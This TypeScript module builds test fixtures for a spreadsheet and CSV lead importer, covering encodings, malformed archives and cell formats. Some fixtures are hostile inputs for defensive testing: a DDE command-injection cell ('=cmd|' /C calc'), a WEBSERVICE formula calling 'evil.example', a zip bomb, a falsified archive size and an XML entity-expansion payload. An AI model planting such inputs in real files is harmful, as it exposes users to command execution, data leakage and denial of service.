import { encode } from "iconv-lite";
import { workbook, zipped } from "../workbook";

const header = ["Name", "Phone"];
const ana = ["Ana", "4155550100"];
const umlauts = "name,phone\nJürgen Müßig,4155550100\nZoë Brontë,4155550101\n";
const wide = Array.from({ length: 500 }, (_, at) => (at === 0 ? "phone" : `c${at}`)).join(",");
const text = (...pieces: (string | Buffer)[]) => Buffer.concat(pieces.map((piece) => Buffer.from(piece as string)));
const styled = (number: number | string, style: number) => ({ number, style });
const sheetXml = (rows: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const inline = (value: string) => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
const twoCells = `<row>${inline("Name")}${inline("Phone")}</row>`;
const sheet1 = "xl/worksheets/sheet1.xml";

/** A compound file as Excel writes it around a password, or with an old workbook in it. */
function compound(stream: string): Buffer {
  const file = Buffer.alloc(2048);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
  file.writeUInt16LE(9, 30);
  file.writeUInt32LE(1, 48);
  Buffer.from(stream, "utf16le").copy(file, 1024 + 128);
  return file;
}

/** The sheet says in the archive's list that it is small, and is not. */
async function lying(): Promise<Buffer> {
  const rows = `<row>${inline("Ana")}${inline("4155550100")}</row>`.repeat(50_000);
  const file = await workbook({ sheets: { Leads: [header] }, parts: { [sheet1]: sheetXml(twoCells + rows) } });
  const at = file.lastIndexOf(Buffer.from(sheet1));
  file.writeUInt32LE(1000, at - 46 + 24);
  return file;
}

const bomb = async () =>
  workbook({ sheets: { Leads: [header, ana] }, parts: { [sheet1]: Buffer.alloc(60 * 1_048_576, "<row></row>") } });

const laughs = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>${sheetXml(
  `<row>${inline("&b;")}</row>`,
)}`;

const cellForms = () =>
  workbook({
    sheets: {
      Leads: [
        ["Name", "Phone", "Last contact", "ZIP", "Signed"],
        ["Ana", 4155550100, styled(45720, 1), styled(2134, 2), styled(45720.5, 3)],
        ["Bo", "4.15555E+09", "2025-03-04", "02134", { xml: '<c r="E3" t="b"><v>1</v></c>' }],
        [
          "Cy",
          { number: "1.4155550102E10", style: 0 },
          styled(45719.75, 3),
          null,
          { xml: '<c r="E4" t="e"><v>#N/A</v></c>' },
        ],
        ["Di", { number: "8.90141032111186E+18", style: 0 }, styled(0.5, 4), null, null],
      ],
    },
    formats: ["00000", 'dd"d"/mm/yyyy hh:mm', "[h]:mm:ss"],
  });

const formulas = () =>
  workbook({
    sheets: {
      Leads: [
        ["Name", "Phone", "Company"],
        [
          { xml: '<c r="A2" t="str"><f>CONCAT("A","na")</f><v>Ana</v></c>' },
          { xml: '<c r="B2"><f>4155550000+100</f><v>4155550100</v></c>' },
          { xml: '<c r="C2"><f>WEBSERVICE("http://evil.example")</f></c>' },
        ],
      ],
    },
  });

const gaps = () =>
  workbook({
    sheets: { Leads: [] },
    parts: {
      [sheet1]: sheetXml(
        `<row r="1">${inline("Name")}<c r="C1" t="inlineStr"><is><t>Phone</t></is></c></row><row r="2" spans="1:3"/><row r="7"><c r="C7"><v>4155550100</v></c></row><row r="900000"><c r="A900000" s="1"/></row>`,
      ),
    },
  });

const richText = () =>
  workbook({
    sheets: {
      Leads: [
        ["Name", "Phone"],
        [{ xml: '<c r="A2" t="s"><v>2</v></c>' }, 4155550100],
      ],
    },
    parts: {
      "xl/sharedStrings.xml":
        "<sst><si><t>Name</t></si><si><t>Phone</t></si><si><r><t>An</t></r><r><rPr><b/></rPr><t>a_x0041_</t></r><rPh sb='0'><t>WRONG</t></rPh></si></sst>",
    },
  });

const far = () =>
  workbook({
    sheets: { Leads: [] },
    parts: {
      [sheet1]: sheetXml(`${twoCells}<row>${inline("Ana")}${inline("4155550100")}<c r="XFD2"><v>1</v></c></row>`),
    },
  });

/** The files that are large, or not text. */
export const binaries: Record<string, () => Buffer | Promise<Buffer>> = {
  "utf-16be-mark.csv": () => text(Buffer.from([0xfe, 0xff]), encode(umlauts, "utf-16be")),
  "utf-32le-mark.csv": () => text(Buffer.from([0xff, 0xfe, 0, 0]), encode(umlauts, "utf-32le")),
  "lone-surrogate.csv": () =>
    text(
      Buffer.from([0xff, 0xfe]),
      encode("name,phone\nA", "utf-16le"),
      Buffer.from([0x00, 0xd8]),
      encode("na,4155550100\n", "utf-16le"),
    ),
  "late-odd-letter.csv": () =>
    text(
      "name,phone\n",
      Array.from({ length: 5000 }, (_, at) => `P,${4_155_560_000 + at}\n`).join(""),
      encode("Renée,4155550101\n", "windows-1252"),
    ),
  "nul-characters.csv": () => text("name,phone\nA\0na,4155550100\nBo,4155550101\n"),
  "cell-of-1-mb.csv": () => text(`name,phone,note\nAna,4155550100,${"x".repeat(1_048_576)}\nBo,4155550101,\n`),
  "500-columns.csv": () => text(`${wide}\n4155550100${",".repeat(499)}\n`),
  "501-columns.csv": () => text(`${wide},more\n4155550100\n`),
  "endless-quote.csv": () => text('name,phone\nBo,"4155550101\n', "Cy,4155550102\n".repeat(300_000)),
  "random.bin": () => Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7919 + (at >> 3) * 31) % 256)),
  "workbook.xlsx": () => workbook({ sheets: { Leads: [header, ana, ["Bo", "55510"]] } }),
  "workbook-named.csv": () => workbook({ sheets: { Leads: [header, ana] }, inline: true }),
  "prefixed.xlsx": () => workbook({ sheets: { Leads: [header, ana] }, inline: true, prefix: "x" }),
  "cell-forms.xlsx": cellForms,
  "since-1904.xlsx": () =>
    workbook({
      sheets: {
        Leads: [
          ["Name", "Phone", "Last contact"],
          ["Ana", "4155550100", styled(44258, 1)],
        ],
      },
      isFrom1904: true,
    }),
  "formulas.xlsx": formulas,
  "hidden-first-sheet.xlsx": () => workbook({ sheets: { ".Lists": [["US"], ["CA"]], Leads: [header, ana] } }),
  "title-above.xlsx": () => workbook({ sheets: { Leads: [["Leads 2026"], [], header, ana] } }),
  "gaps.xlsx": gaps,
  "rich-text.xlsx": richText,
  "far-cell.xlsx": far,
  "nasty-names.xlsx": () =>
    workbook({
      sheets: { Leads: [header, ["=cmd|' /C calc'!A0", "4155550100"], ['<b>🙂</b>\n"دانا"', "4155550101"]] },
    }),
  "empty.xlsx": () => workbook({ sheets: { Leads: [] } }),
  "header-only.xlsx": () => workbook({ sheets: { Leads: [header] } }),
  "no-sheet.xlsx": () => workbook({ sheets: { Leads: [] }, parts: { [sheet1]: null } }),
  "password.xlsx": () => compound("EncryptedPackage"),
  "old.xls": () => compound("Workbook"),
  "binary.xlsb": () => zipped({ "[Content_Types].xml": "x", "xl/workbook.bin": "x", "xl/sheets/sheet1.bin": "x" }),
  "leads.numbers": () => zipped({ "Index/Document.iwa": "x", "Metadata/Properties.plist": "x" }),
  "leads.ods": () => zipped({ mimetype: "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "x" }),
  "leads.docx": () => zipped({ "[Content_Types].xml": "x", "word/document.xml": "x" }),
  "packed.xlsx": () => zipped({ "leads.csv": "name,phone\nAna,4155550100\n" }),
  "cut-off.xlsx": async () => (await workbook({ sheets: { Leads: [header, ana] } })).subarray(0, -200),
  "broken-xml.xlsx": () => workbook({ sheets: { Leads: [header] }, parts: { [sheet1]: sheetXml("<row><c></row>") } }),
  "lying-size.xlsx": lying,
  "bomb.xlsx": bomb,
  "many-laughs.xlsx": () => workbook({ sheets: { Leads: [header] }, parts: { [sheet1]: laughs } }),
  "packed.csv.gz": () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]),
  "picture.png": () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
};
